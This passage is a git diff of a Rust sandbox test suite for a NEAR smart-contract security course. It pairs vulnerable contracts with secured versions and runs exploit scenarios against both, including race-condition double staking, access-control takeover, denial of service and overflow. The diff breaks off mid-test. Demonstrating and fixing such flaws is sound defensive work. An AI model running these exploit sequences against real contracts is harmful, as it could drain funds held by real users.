@@ -1,12 +1,17 @@
 use anyhow::Ok;
 
 // macro allowing us to convert human readable units to workspace units.
-use near_sdk::{ json_types::U128, ONE_NEAR };
+use near_sdk::{ env, json_types::{ Base64VecU8, U128 }, ONE_NEAR };
 
 // macro allowing us to convert args into JSON bytes to be read by the contract.
 use serde_json::json;
+use primitive_types::U256;
 
-use workspaces::{ operations::Function, Account, Contract };
+use near_sdk::serde::Deserialize;
+
+use workspaces::{ network::Sandbox, operations::Function, Account, AccountId, Contract, Worker };
+use workspaces::result::ExecutionFinalResult;
+use workspaces::types::{ AccessKey, KeyType, SecretKey };
 
 const TGAS: u64 = 1_000_000_000_000;
 
@@ -15,20 +20,144 @@ const ACCESS_CONTROL_CONTRACT: &[u8] = include_bytes!("../res/access_control.was
 const ACCESS_CONTROL_CONTRACT_EXPLOIT: &[u8] = include_bytes!(
     "../res/exploit_contract_access_control.wasm"
 );
+const ACCESS_CONTROL_CONTRACT_SECURED: &[u8] = include_bytes!(
+    "../res/access_control_secured.wasm"
+);
+const ACCESS_CONTROL_BINDGEN_CONTRACT: &[u8] = include_bytes!(
+    "../res/access_control_bindgen.wasm"
+);
+const ACCESS_CONTROL_BINDGEN_CONTRACT_SECURED: &[u8] = include_bytes!(
+    "../res/access_control_bindgen_secured.wasm"
+);
 
 // Denial of Service Example Contracts
 const DOS_CONTRACT: &[u8] = include_bytes!("../res/denial_of_service.wasm");
+const DOS_CONTRACT_SECURED: &[u8] = include_bytes!("../res/denial_of_service_secured.wasm");
 
 // Logical Bug Example Contracts
 const LOGICAL_CONTRACT: &[u8] = include_bytes!("../res/logical.wasm");
+const LOGICAL_CONTRACT_SECURED: &[u8] = include_bytes!("../res/logical_secured.wasm");
 
 // Race Condition Example Contracts
 const DEPOSIT_CONTRACT: &[u8] = include_bytes!("../res/deposit_contract.wasm");
+const DEPOSIT_CONTRACT_SECURED: &[u8] = include_bytes!("../res/deposit_contract_secured.wasm");
 const STAKING_CONTRACT: &[u8] = include_bytes!("../res/staking.wasm");
 const EXPLOIT_CONTRACT: &[u8] = include_bytes!("../res/exploit_contract_race_condition.wasm");
 
+// Public Callback Example Contracts
+const PUBLIC_CALLBACK_CONTRACT: &[u8] = include_bytes!("../res/public_callback.wasm");
+const PUBLIC_CALLBACK_CONTRACT_SECURED: &[u8] = include_bytes!(
+    "../res/public_callback_secured.wasm"
+);
+const PUBLIC_CALLBACK_CONTRACT_EXPLOIT: &[u8] = include_bytes!(
+    "../res/exploit_contract_public_callback.wasm"
+);
+
+// Storage Collision Example Contracts
+const STORAGE_COLLISION_CONTRACT: &[u8] = include_bytes!("../res/storage_collision.wasm");
+const STORAGE_COLLISION_CONTRACT_SECURED: &[u8] = include_bytes!(
+    "../res/storage_collision_secured.wasm"
+);
+
+// Upgrade Example Contracts
+const UPGRADE_V1_CONTRACT: &[u8] = include_bytes!("../res/upgrade_v1.wasm");
+const UPGRADE_V2_CONTRACT: &[u8] = include_bytes!("../res/upgrade_v2.wasm");
+const UPGRADE_V2_CONTRACT_SECURED: &[u8] = include_bytes!("../res/upgrade_v2_secured.wasm");
+
+// Initialization Front-Running Example Contracts
+const INIT_FRONT_RUNNING_CONTRACT: &[u8] = include_bytes!("../res/init_front_running.wasm");
+const INIT_FRONT_RUNNING_CONTRACT_SECURED: &[u8] = include_bytes!(
+    "../res/init_front_running_secured.wasm"
+);
+
+// One Yocto Example Contracts
+const ONE_YOCTO_CONTRACT: &[u8] = include_bytes!("../res/one_yocto.wasm");
+const ONE_YOCTO_CONTRACT_SECURED: &[u8] = include_bytes!("../res/one_yocto_secured.wasm");
+
+// Gas Starvation Example Contracts
+const GAS_STARVATION_CONTRACT: &[u8] = include_bytes!("../res/gas_starvation.wasm");
+const GAS_STARVATION_CONTRACT_SECURED: &[u8] = include_bytes!(
+    "../res/gas_starvation_secured.wasm"
+);
+const GAS_STARVATION_POOL_CONTRACT: &[u8] = include_bytes!("../res/gas_starvation_pool.wasm");
+
+// Token Receiver Example Contracts
+const FT_RECEIVER_CONTRACT: &[u8] = include_bytes!("../res/ft_receiver.wasm");
+const FT_RECEIVER_CONTRACT_SECURED: &[u8] = include_bytes!("../res/ft_receiver_secured.wasm");
+const FT_RECEIVER_CONTRACT_EXPLOIT: &[u8] = include_bytes!(
+    "../res/exploit_contract_ft_receiver.wasm"
+);
+
+// Randomness Example Contracts
+const RANDOMNESS_CONTRACT: &[u8] = include_bytes!("../res/randomness.wasm");
+const RANDOMNESS_CONTRACT_SECURED: &[u8] = include_bytes!("../res/randomness_secured.wasm");
+const RANDOMNESS_CONTRACT_EXPLOIT: &[u8] = include_bytes!(
+    "../res/exploit_contract_randomness.wasm"
+);
+
+// Overflow Example Contracts, built with and without overflow checks
+const OVERFLOW_CONTRACT: &[u8] = include_bytes!("../res/overflow.wasm");
+const OVERFLOW_CONTRACT_UNCHECKED: &[u8] = include_bytes!("../res/unchecked/overflow.wasm");
+const OVERFLOW_CONTRACT_SECURED: &[u8] = include_bytes!("../res/overflow_secured.wasm");
+const OVERFLOW_CONTRACT_SECURED_UNCHECKED: &[u8] = include_bytes!(
+    "../res/unchecked/overflow_secured.wasm"
+);
+
+// Refund Example Contracts
+const REFUND_CONTRACT: &[u8] = include_bytes!("../res/refund.wasm");
+const REFUND_CONTRACT_SECURED: &[u8] = include_bytes!("../res/refund_secured.wasm");
+const REFUND_PROXY_CONTRACT: &[u8] = include_bytes!("../res/refund_proxy.wasm");
+
+// Transfer Example Contracts
+const TRANSFER_CONTRACT: &[u8] = include_bytes!("../res/transfer.wasm");
+const TRANSFER_CONTRACT_SECURED: &[u8] = include_bytes!("../res/transfer_secured.wasm");
+
 const DEPOSIT_AMOUNT: u128 = ONE_NEAR * 20;
 
+// Prepaid gas for `stake` on the deposit contracts. Covers the static gas of the staking
+// call and of `resolve_staking`.
+const DEPOSIT_STAKE_GAS: u64 = 50 * TGAS;
+
+// Mirrors `denial_of_service_secured::MAX_BATCH_SIZE`
+const MAX_BATCH_SIZE: usize = 50;
+
+// Mirrors `gas_starvation_secured::MAX_VALIDATORS`
+const MAX_VALIDATORS: usize = 100;
+
+// Mirrors `randomness::PRIZE` and `randomness::TICKET_PRICE`
+const LOTTERY_PRIZE: u128 = 2 * ONE_NEAR;
+const LOTTERY_TICKET_PRICE: u128 = ONE_NEAR;
+
+// Tickets bought per lottery test. One in four wins, so no win at all is very unlikely, and
+// so is winning back the ticket price, which takes half of the rounds.
+const LOTTERY_ROUNDS: u32 = 40;
+
+// Sent to 2 receivers, the total is 2^128 and wraps around to 0
+const OVERFLOW_AMOUNT: u128 = 1 << 127;
+
+// Mirrors `refund::REGISTRATION_FEE`
+const REGISTRATION_FEE: u128 = ONE_NEAR / 10;
+
+// Price of every item listed in the refund tests
+const ITEM_PRICE: u128 = 5 * ONE_NEAR;
+
+// Upper bound on the gas a test transaction burns, for balance comparisons
+const GAS_TOLERANCE: u128 = ONE_NEAR / 100;
+
+// Far below the storage cost of a new implicit account
+const DUST_AMOUNT: u128 = 1_000;
+
+// Mirrors `common::OWNER_PROPOSAL_EXPIRY`
+const OWNER_PROPOSAL_EXPIRY: u64 = 86_400;
+
+// NEP-145 storage balance as returned by `storage_balance_of`
+#[derive(Deserialize, Debug)]
+#[serde(crate = "near_sdk::serde")]
+struct StorageBalance {
+    total: U128,
+    available: U128,
+}
+
 //Prepares and deploys ACCESS CONTROL contracts
 async fn prepare_access_control() -> anyhow::Result<(Contract, Contract, Account, Account)> {
     let worker = workspaces::sandbox().await?;
@@ -50,8 +179,49 @@ async fn prepare_access_control() -> anyhow::Result<(Contract, Contract, Account
     Ok((access_control_contract, access_control_contract_exploit, owner, caller))
 }
 
+//Prepares and deploys secured ACCESS CONTROL contract next to the same exploit contract
+async fn prepare_access_control_secured() -> anyhow::Result<
+    (Worker<Sandbox>, Contract, Contract, Account, Account)
+> {
+    let worker = workspaces::sandbox().await?;
+    let secured_contract = worker.dev_deploy(ACCESS_CONTROL_CONTRACT_SECURED).await?;
+    let access_control_contract_exploit = worker.dev_deploy(ACCESS_CONTROL_CONTRACT_EXPLOIT).await?;
+
+    let owner = worker.dev_create_account().await?;
+    let caller = worker.dev_create_account().await?;
+
+    let _ = secured_contract
+        .call("init")
+        .args_json(json!({"owner": owner.id(), "data": "Hello World"}))
+        .transact().await?;
+
+    println!("Secured Access Control contract deployed: {}", secured_contract.id());
+
+    Ok((worker, secured_contract, access_control_contract_exploit, owner, caller))
+}
+
+//Prepares and deploys the #[near_bindgen] ACCESS CONTROL contract, vulnerable or secured
+async fn prepare_access_control_bindgen(
+    wasm: &[u8]
+) -> anyhow::Result<(Contract, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let contract = worker.dev_deploy(wasm).await?;
+
+    let owner = worker.dev_create_account().await?;
+    let caller = worker.dev_create_account().await?;
+
+    let _ = contract
+        .call("init")
+        .args_json(json!({"owner": owner.id(), "data": "Hello World"}))
+        .transact().await?;
+
+    println!("Access Control #[near_bindgen] contract deployed: {}", contract.id());
+
+    Ok((contract, owner, caller))
+}
+
 //Prepares and deploys DoS contracts
-async fn prepare_dos() -> anyhow::Result<(Contract, Account)> {
+async fn prepare_dos() -> anyhow::Result<(Contract, Account, Account)> {
     let worker = workspaces::sandbox().await?;
     let dos_contract = worker.dev_deploy(DOS_CONTRACT).await?;
     let owner = worker.dev_create_account().await?;
@@ -65,7 +235,25 @@ async fn prepare_dos() -> anyhow::Result<(Contract, Account)> {
 
     println!("Denial of Service contract deployed: {}", dos_contract.id());
 
-    Ok((dos_contract, caller))
+    Ok((dos_contract, owner, caller))
+}
+
+//Prepares and deploys secured DoS contract
+async fn prepare_dos_secured() -> anyhow::Result<(Contract, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let dos_contract = worker.dev_deploy(DOS_CONTRACT_SECURED).await?;
+    let owner = worker.dev_create_account().await?;
+    let caller = worker.dev_create_account().await?;
+
+    let _ = dos_contract
+        .call("init")
+        .args_json(json!({"owner": owner.id(), "data": "Hello World"}))
+        .max_gas()
+        .transact().await?;
+
+    println!("Secured Denial of Service contract deployed: {}", dos_contract.id());
+
+    Ok((dos_contract, owner, caller))
 }
 
 //Prepares and deploys LOGICAL contracts
@@ -80,8 +268,24 @@ async fn prepare_logical() -> anyhow::Result<(Contract, Account, Account)> {
     Ok((logical_contract, caller, receiver))
 }
 
+//Prepares and deploys secured LOGICAL contract (NEP-141 wrapped NEAR)
+async fn prepare_logical_secured() -> anyhow::Result<(Contract, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let logical_contract = worker.dev_deploy(LOGICAL_CONTRACT_SECURED).await?;
+    let caller = worker.dev_create_account().await?;
+    let receiver = worker.dev_create_account().await?;
+
+    let _ = logical_contract.call("new").transact().await?;
+
+    println!("Secured Logical contract deployed: {}", logical_contract.id());
+
+    Ok((logical_contract, caller, receiver))
+}
+
 // Prepares and deploys RACE CONDITION contracts
-async fn prepare_race_condition() -> anyhow::Result<(Contract, Contract, Contract)> {
+async fn prepare_race_condition() -> anyhow::Result<
+    (Worker<Sandbox>, Contract, Contract, Contract)
+> {
     let worker = workspaces::sandbox().await?;
     let deposit_contract = worker.dev_deploy(DEPOSIT_CONTRACT).await?;
     let staking_contract = worker.dev_deploy(STAKING_CONTRACT).await?;
@@ -98,11 +302,394 @@ async fn prepare_race_condition() -> anyhow::Result<(Contract, Contract, Contrac
 
     let _ = staking_contract
         .call("new")
-        .args_json(json!({"account": deposit_contract.id(),}))
+        .args_json(json!({"account": deposit_contract.id(), "owner": staking_contract.id()}))
         .transact().await?;
 
     println!("Staking contract deployed: {:#?}", staking_contract.id());
 
+    Ok((worker, deposit_contract, staking_contract, exploit_contract))
+}
+
+// Prepares and deploys PUBLIC CALLBACK contracts. Vault is the vulnerable or the secured one.
+async fn prepare_public_callback(
+    vault_wasm: &[u8]
+) -> anyhow::Result<(Contract, Contract, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let vault_contract = worker.dev_deploy(vault_wasm).await?;
+    let exploit_contract = worker.dev_deploy(PUBLIC_CALLBACK_CONTRACT_EXPLOIT).await?;
+    let user = worker.dev_create_account().await?;
+
+    let _ = vault_contract.call("new").transact().await?;
+
+    println!("Vault contract deployed: {}", vault_contract.id());
+
+    // Honest user funds the exploit is after
+    let res = user
+        .call(vault_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    Ok((vault_contract, exploit_contract, user))
+}
+
+// Prepares and deploys a STORAGE COLLISION ledger, vulnerable or secured, with two depositors
+async fn prepare_storage_collision(
+    wasm: &[u8]
+) -> anyhow::Result<(Contract, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let ledger_contract = worker.dev_deploy(wasm).await?;
+    let alice = worker.dev_create_account().await?;
+    let bob = worker.dev_create_account().await?;
+
+    let _ = ledger_contract.call("new").transact().await?;
+
+    println!("Ledger contract deployed: {}", ledger_contract.id());
+
+    for (account, amount) in [(&alice, DEPOSIT_AMOUNT), (&bob, ONE_NEAR)] {
+        let res = account
+            .call(ledger_contract.id(), "deposit_near")
+            .deposit(amount)
+            .transact().await?;
+
+        assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+    }
+
+    Ok((ledger_contract, alice, bob))
+}
+
+// Raw storage key of a map entry: the collection prefix followed by the Borsh encoded account
+fn account_storage_key(prefix: &[u8], account: &AccountId) -> Vec<u8> {
+    [prefix, &(account.as_str().len() as u32).to_le_bytes(), account.as_bytes()].concat()
+}
+
+// Prepares and deploys the v1 UPGRADE contract with a message from two users
+async fn prepare_upgrade() -> anyhow::Result<(Contract, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let contract = worker.dev_deploy(UPGRADE_V1_CONTRACT).await?;
+    let alice = worker.dev_create_account().await?;
+    let bob = worker.dev_create_account().await?;
+
+    let _ = contract
+        .call("new")
+        .args_json(json!({"owner": contract.id()}))
+        .transact().await?;
+
+    println!("Upgrade v1 contract deployed: {}", contract.id());
+
+    for (account, message) in [(&alice, "Hello from Alice"), (&bob, "Hello from Bob")] {
+        let res = account
+            .call(contract.id(), "set_message")
+            .args_json(json!({"message": message}))
+            .transact().await?;
+
+        assert!(res.is_success(), "Set Message Failed: {:?}", res.failures());
+    }
+
+    Ok((contract, alice, bob))
+}
+
+// Prepares and deploys a ONE YOCTO vault, vulnerable or secured. The owner deposits and adds
+// a function-call access key for the vault, the way a dApp login does. The second account
+// signs with that key only, as an attacker who got hold of it would.
+async fn prepare_one_yocto(
+    wasm: &[u8]
+) -> anyhow::Result<(Contract, Account, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let vault_contract = worker.dev_deploy(wasm).await?;
+    let owner = worker.dev_create_account().await?;
+    let attacker = worker.dev_create_account().await?;
+
+    let _ = vault_contract
+        .call("new")
+        .args_json(json!({"owner": owner.id()}))
+        .transact().await?;
+
+    println!("Vault contract deployed: {}", vault_contract.id());
+
+    let res = owner
+        .call(vault_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    // Any method of the vault, with 1 NEAR to pay for gas
+    let secret_key = SecretKey::from_random(KeyType::ED25519);
+
+    let res = owner
+        .batch(owner.id())
+        .add_key(
+            secret_key.public_key(),
+            AccessKey::function_call_access(vault_contract.id(), &[], Some(ONE_NEAR))
+        )
+        .transact().await?;
+
+    assert!(res.is_success(), "Add Key Failed: {:?}", res.failures());
+
+    let leaked_key_owner = Account::from_secret_key(owner.id().clone(), secret_key, &worker);
+
+    Ok((vault_contract, owner, leaked_key_owner, attacker))
+}
+
+// Prepares and deploys a GAS STARVATION stake splitter, vulnerable or secured, in front of a
+// pool. The user has DEPOSIT_AMOUNT deposited.
+async fn prepare_gas_starvation(
+    wasm: &[u8]
+) -> anyhow::Result<(Contract, Contract, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let pool_contract = worker.dev_deploy(GAS_STARVATION_POOL_CONTRACT).await?;
+    let splitter_contract = worker.dev_deploy(wasm).await?;
+    let user = worker.dev_create_account().await?;
+
+    let _ = pool_contract.call("new").transact().await?;
+
+    let _ = splitter_contract
+        .call("new")
+        .args_json(json!({"pool": pool_contract.id()}))
+        .transact().await?;
+
+    println!("Splitter contract deployed: {}", splitter_contract.id());
+
+    let res = user
+        .call(splitter_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    Ok((splitter_contract, pool_contract, user))
+}
+
+// Prepares and deploys a TOKEN RECEIVER vault, vulnerable or secured, for the wrapped NEAR
+// token, plus a fake token. The user deposits half of their wNEAR into the vault.
+async fn prepare_ft_receiver(
+    wasm: &[u8]
+) -> anyhow::Result<(Contract, Contract, Contract, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let token_contract = worker.dev_deploy(LOGICAL_CONTRACT_SECURED).await?;
+    let vault_contract = worker.dev_deploy(wasm).await?;
+    let fake_token_contract = worker.dev_deploy(FT_RECEIVER_CONTRACT_EXPLOIT).await?;
+    let user = worker.dev_create_account().await?;
+    let attacker = worker.dev_create_account().await?;
+
+    let _ = token_contract.call("new").transact().await?;
+
+    let _ = vault_contract
+        .call("new")
+        .args_json(json!({"token": token_contract.id()}))
+        .transact().await?;
+
+    println!("Vault contract deployed: {}", vault_contract.id());
+
+    // Both the vault and the attacker need a token balance to receive wNEAR
+    for account_id in [vault_contract.id(), attacker.id()] {
+        let res = user
+            .call(token_contract.id(), "storage_deposit")
+            .args_json(json!({"account_id": account_id, "registration_only": true}))
+            .deposit(ONE_NEAR / 10)
+            .transact().await?;
+
+        assert!(res.is_success(), "Storage Deposit Failed: {:?}", res.failures());
+    }
+
+    let res = user
+        .call(token_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    let res = user
+        .call(token_contract.id(), "ft_transfer_call")
+        .args_json(
+            json!({"receiver_id": vault_contract.id(), "amount": U128::from(DEPOSIT_AMOUNT / 2), "msg": ""})
+        )
+        .deposit(1)
+        .gas(100 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Transfer Call Failed: {:?}", res.failures());
+
+    Ok((vault_contract, token_contract, fake_token_contract, user, attacker))
+}
+
+// Prepares and deploys a RANDOMNESS lottery, vulnerable or secured, and the exploit contract.
+// The attacker only signs calls to the exploit contract, so its balance changes by tickets
+// and prizes alone.
+async fn prepare_randomness(
+    wasm: &[u8]
+) -> anyhow::Result<(Worker<Sandbox>, Contract, Contract, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let lottery_contract = worker.dev_deploy(wasm).await?;
+    let exploit_contract = worker.dev_deploy(RANDOMNESS_CONTRACT_EXPLOIT).await?;
+    let player = worker.dev_create_account().await?;
+    let attacker = worker.dev_create_account().await?;
+
+    let _ = lottery_contract.call("new").transact().await?;
+
+    println!("Lottery contract deployed: {}", lottery_contract.id());
+
+    Ok((worker, lottery_contract, exploit_contract, player, attacker))
+}
+
+// Prepares and deploys an OVERFLOW token, vulnerable or secured, from either profile. The
+// owner holds the whole supply, the attacker and the accomplice hold nothing.
+async fn prepare_overflow(
+    wasm: &[u8]
+) -> anyhow::Result<(Contract, Account, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let token_contract = worker.dev_deploy(wasm).await?;
+    let owner = worker.dev_create_account().await?;
+    let attacker = worker.dev_create_account().await?;
+    let accomplice = worker.dev_create_account().await?;
+
+    let _ = token_contract
+        .call("new")
+        .args_json(json!({"owner": owner.id(), "total_supply": U128::from(DEPOSIT_AMOUNT)}))
+        .transact().await?;
+
+    println!("Token contract deployed: {}", token_contract.id());
+
+    Ok((token_contract, owner, attacker, accomplice))
+}
+
+// Prepares and deploys a REFUND marketplace, vulnerable or secured, and a proxy contract
+// that buys from its own balance. The seller is registered and has listed "item-1".
+async fn prepare_refund(
+    wasm: &[u8]
+) -> anyhow::Result<(Contract, Contract, Account, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let market_contract = worker.dev_deploy(wasm).await?;
+    let proxy_contract = worker.dev_deploy(REFUND_PROXY_CONTRACT).await?;
+    let seller = worker.dev_create_account().await?;
+    let buyer = worker.dev_create_account().await?;
+
+    let _ = market_contract.call("new").transact().await?;
+
+    println!("Marketplace contract deployed: {}", market_contract.id());
+
+    let res = seller
+        .call(market_contract.id(), "register")
+        .deposit(REGISTRATION_FEE)
+        .transact().await?;
+
+    assert!(res.is_success(), "Register Failed: {:?}", res.failures());
+
+    let res = seller
+        .call(market_contract.id(), "list")
+        .args_json(json!({"item_id": "item-1", "price": U128::from(ITEM_PRICE)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "List Failed: {:?}", res.failures());
+
+    Ok((market_contract, proxy_contract, seller, buyer))
+}
+
+// Prepares and deploys a TRANSFER payout contract, vulnerable or secured. The user has
+// DEPOSIT_AMOUNT deposited.
+async fn prepare_transfer(wasm: &[u8]) -> anyhow::Result<(Worker<Sandbox>, Contract, Account)> {
+    let worker = workspaces::sandbox().await?;
+    let payout_contract = worker.dev_deploy(wasm).await?;
+    let user = worker.dev_create_account().await?;
+
+    let _ = payout_contract.call("new").transact().await?;
+
+    println!("Payout contract deployed: {}", payout_contract.id());
+
+    let res = user
+        .call(payout_contract.id(), "deposit_near")
+        .deposit(DEPOSIT_AMOUNT)
+        .transact().await?;
+
+    assert!(res.is_success(), "Deposit Failed: {:?}", res.failures());
+
+    Ok((worker, payout_contract, user))
+}
+
+// 64 lowercase hex characters, an implicit account nobody has sent anything to yet
+fn implicit_account_id(seed: &str) -> AccountId {
+    env::sha256(seed.as_bytes())
+        .iter()
+        .map(|byte| format!("{:02x}", byte))
+        .collect::<String>()
+        .parse()
+        .unwrap()
+}
+
+fn validator_ids(count: usize) -> Vec<String> {
+    (0..count).map(|i| format!("validator-{}.test.near", i)).collect()
+}
+
+// Raises the prepaid gas 1 TGas at a time until the pool accepts the stake. Below that
+// `stake` itself fails and nothing changes. Returns the prepaid gas and the outcome.
+async fn stake_with_minimum_gas(
+    user: &Account,
+    splitter_contract: &Contract,
+    pool_contract: &Contract,
+    validators: &[String]
+) -> anyhow::Result<(u64, ExecutionFinalResult)> {
+    for gas in (5..=300).map(|tgas| tgas * TGAS) {
+        let res = user
+            .call(splitter_contract.id(), "stake")
+            .args_json(json!({"validators": validators, "amount": U128::from(ONE_NEAR)}))
+            .gas(gas)
+            .transact().await?;
+
+        let pool_called = res
+            .receipt_outcomes()
+            .iter()
+            .any(|outcome| &outcome.executor_id == pool_contract.id() && outcome.is_success());
+
+        if pool_called {
+            return Ok((gas, res));
+        }
+    }
+
+    panic!("Pool was never called");
+}
+
+// Fast-forwards the sandbox until the staking contract reports `epoch_height`
+async fn fast_forward_to_epoch(
+    worker: &Worker<Sandbox>,
+    staking_contract: &Contract,
+    epoch_height: u64
+) -> anyhow::Result<()> {
+    for _ in 0..100 {
+        let current_epoch_height = staking_contract
+            .view("get_epoch_height").await?
+            .json::<u64>()?;
+
+        if current_epoch_height >= epoch_height {
+            return Ok(());
+        }
+
+        worker.fast_forward(100).await?;
+    }
+
+    anyhow::bail!("Epoch {} was not reached", epoch_height)
+}
+
+// Prepares and deploys RACE CONDITION contracts with the secured deposit contract
+async fn prepare_race_condition_secured() -> anyhow::Result<(Contract, Contract, Contract)> {
+    let worker = workspaces::sandbox().await?;
+    let deposit_contract = worker.dev_deploy(DEPOSIT_CONTRACT_SECURED).await?;
+    let staking_contract = worker.dev_deploy(STAKING_CONTRACT).await?;
+    let exploit_contract = worker.dev_deploy(EXPLOIT_CONTRACT).await?;
+
+    let _ = deposit_contract
+        .call("new")
+        .args_json(json!({"staking_contract": staking_contract.id(),}))
+        .transact().await?;
+
+    println!("Secured Deposit contract deployed: {}", deposit_contract.id().to_string());
+
+    let _ = staking_contract
+        .call("new")
+        .args_json(json!({"account": deposit_contract.id(), "owner": staking_contract.id()}))
+        .transact().await?;
+
     Ok((deposit_contract, staking_contract, exploit_contract))
 }
 
@@ -111,23 +698,7 @@ async fn exploit_access_control() -> anyhow::Result<()> {
     let (access_control_contract, access_control_contract_exploit, owner, caller) =
         prepare_access_control().await?;
 
-    /*****============== Incorrect #[near_bindgen] Usage Exploit ==============*****/
-    // let res = caller
-    //     .call(access_control_contract.id(), "pause")
-    //     .transact()
-    //     .await?;
-
-    // assert!(res.is_success(), "Pause Failed: {:?}", res.failures());
-    // println!("Pause Logs: {:?}", res.logs());
-
-    // let pause_status = access_control_contract
-    //     .view("get_pause_status")
-    //     .await?
-    //     .json::<bool>()
-    //     .unwrap();
-
-    // println!("Pause Status: {:?}", pause_status);
-    // assert!(pause_status == true, "Could not pause contract");
+    // Incorrect #[near_bindgen] usage is shown in `exploit_access_control_near_bindgen`
 
     /*****============== Signer Account Id Exploit ==============*****/
     let res = owner
@@ -157,7 +728,7 @@ async fn exploit_access_control() -> anyhow::Result<()> {
 
 #[tokio::test]
 async fn exploit_dos_register_user() -> anyhow::Result<()> {
-    let (dos_contract, caller) = prepare_dos().await?;
+    let (dos_contract, _, caller) = prepare_dos().await?;
 
     let transfer = dos_contract.as_account().transfer_near(caller.id(), ONE_NEAR * 80).await?;
 
@@ -228,7 +799,7 @@ async fn exploit_dos_register_user() -> anyhow::Result<()> {
 
 #[tokio::test]
 async fn exploit_dos_log_bombing() -> anyhow::Result<()> {
-    let (dos_contract, caller) = prepare_dos().await?;
+    let (dos_contract, _, caller) = prepare_dos().await?;
 
     let gen = "a".repeat(60);
 
@@ -341,7 +912,8 @@ async fn exploit_logical_bug() -> anyhow::Result<()> {
 
 #[tokio::test]
 async fn exploit_race_condition() -> anyhow::Result<()> {
-    let (deposit_contract, staking_contract, exploit_contract): (
+    let (worker, deposit_contract, staking_contract, exploit_contract): (
+        Worker<Sandbox>,
         Contract,
         Contract,
         Contract,
@@ -368,14 +940,14 @@ async fn exploit_race_condition() -> anyhow::Result<()> {
                 .args_json(
                     json!({"validator":"test.near".to_string(), "amount":U128::from(DEPOSIT_AMOUNT)})
                 )
-                .gas(29 * TGAS)
+                .gas(DEPOSIT_STAKE_GAS)
         )
         .call(
             Function::new("stake")
                 .args_json(
                     json!({"validator":"test.near".to_string(), "amount":U128::from(DEPOSIT_AMOUNT)})
                 )
-                .gas(29 * TGAS)
+                .gas(DEPOSIT_STAKE_GAS)
         )
         .transact().await?;
 
@@ -422,21 +994,40 @@ async fn exploit_race_condition() -> anyhow::Result<()> {
 
     let res = exploit_contract
         .as_account()
-        .call(staking_contract.id(), "withdraw_stake")
+        .call(staking_contract.id(), "unstake")
         .args_json(
             json!(
             {"validator":"test.near".to_string(), "amount":U128::from(DEPOSIT_AMOUNT * 2)})
         )
         .transact().await?;
 
-    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
-    println!("Withdrawn: {:?}", res.logs());
+    assert!(res.is_success(), "Unstake Failed: {:?}", res.failures());
+    println!("Unstaked: {:?}", res.logs());
 
-    let exploit_contract_balance = exploit_contract.as_account().view_account().await?.balance;
+    let available_epoch = staking_contract
+        .view("view_unstaked_available_epoch")
+        .args_json(json!({"account":exploit_contract.id(), "validator":"test.near"}))
+        .await?
+        .json::<Option<u64>>()
+        .unwrap()
+        .unwrap();
 
-    println!("Exploit contract balance after withdraw: {}\n", exploit_contract_balance);
+    fast_forward_to_epoch(&worker, &staking_contract, available_epoch).await?;
 
-    let staked_amount = staking_contract
+    let res = exploit_contract
+        .as_account()
+        .call(staking_contract.id(), "withdraw_unstaked")
+        .args_json(json!({"validator":"test.near".to_string()}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+    println!("Withdrawn: {:?}", res.logs());
+
+    let exploit_contract_balance = exploit_contract.as_account().view_account().await?.balance;
+
+    println!("Exploit contract balance after withdraw: {}\n", exploit_contract_balance);
+
+    let staked_amount = staking_contract
         .call("view_stake")
         .args_json(json!({"account":exploit_contract.id(), "validator":"test.near"}))
         .transact().await?
@@ -448,4 +1039,2974 @@ async fn exploit_race_condition() -> anyhow::Result<()> {
     println!("Staked amount:{:?}", staked_amount);
 
     Ok(())
-}
\ No newline at end of file
+}
+
+#[tokio::test]
+async fn exploit_access_control_secured() -> anyhow::Result<()> {
+    /*****============== Vulnerable contract: exploit succeeds ==============*****/
+    let (access_control_contract, access_control_contract_exploit, owner, caller) =
+        prepare_access_control().await?;
+
+    let res = owner
+        .call(access_control_contract_exploit.id(), "exploit")
+        .args_json(json!({"addr":access_control_contract.id(),"owner": caller.id()}))
+        .max_gas()
+        .transact().await?;
+
+    assert!(res.clone().json::<bool>().unwrap(), "Exploit Failed: {:?}", res.failures());
+
+    let res = caller.call(access_control_contract.id(), "pub_toggle_pause").transact().await?;
+
+    assert!(res.is_success(), "Toggle Pause Failed: {:?}", res.failures());
+
+    /*****============== Secured contract: same exploit fails ==============*****/
+    let (worker, secured_contract, access_control_contract_exploit, owner, caller) =
+        prepare_access_control_secured().await?;
+
+    let res = owner
+        .call(access_control_contract_exploit.id(), "exploit")
+        .args_json(json!({"addr":secured_contract.id(),"owner": caller.id()}))
+        .max_gas()
+        .transact().await?;
+
+    assert!(!res.clone().json::<bool>().unwrap(), "Exploit Succeeded: {:?}", res.logs());
+    println!("Exploit Logs: {:?}", res.logs());
+
+    let current_owner = secured_contract.view("get_owner").await?.json::<AccountId>().unwrap();
+
+    assert_eq!(&current_owner, owner.id());
+
+    let proposed_owner = secured_contract
+        .view("get_proposed_owner").await?
+        .json::<Option<AccountId>>()
